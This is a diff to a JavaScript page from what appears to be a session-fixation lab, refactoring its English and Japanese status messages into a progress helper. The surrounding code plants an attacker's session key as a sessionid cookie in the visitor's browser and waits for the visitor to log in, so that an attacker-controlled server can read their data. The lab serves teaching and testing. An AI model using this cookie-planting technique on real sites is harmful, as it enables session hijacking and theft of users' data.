@@ -5,10 +5,9 @@
 // in their browser. If login keeps it (no `cycle_key`), the attacker's key is now the visitor's
 // session, and the attacker's server reads their data with it.
 
-import { config, finish, report } from "./common.js";
+import { config, finish, progress, report } from "./common.js";
 import { account, cookieSet, postJson, relay } from "./own_server.js";
 
-const ja = config.lang === "ja";
 const WAIT_MS = 120_000;
 
 /** A live session of the attacker's own account on the attacked mount: its key. */
@@ -34,10 +33,10 @@ try {
   const mount = new URL(config.api).pathname.replace(/\/$/, "");
   const path = `${mount}/api/`;
   document.cookie = `sessionid=${key}; path=${path}`;
-  document.body.dataset.phase = "planted";
-  document.getElementById("outcome").textContent = ja
-    ? `あなたのブラウザーに攻撃者のセッションキー（${path} 用）を仕込みました。ラボのページでログインしてください。このページは最大 2 分待ちます。`
-    : `The attacker's session key is planted in your browser (for ${path}). Now log in on the lab page; this page waits up to two minutes.`;
+  progress("planted", {
+    en: `The attacker's session key is planted in your browser (for ${path}). Now log in on the lab page; this page waits up to two minutes.`,
+    ja: `あなたのブラウザーに攻撃者のセッションキー（${path} 用）を仕込みました。ラボのページでログインしてください。このページは最大 2 分待ちます。`,
+  });
 
   const until = Date.now() + WAIT_MS;
   let owner = account.username;
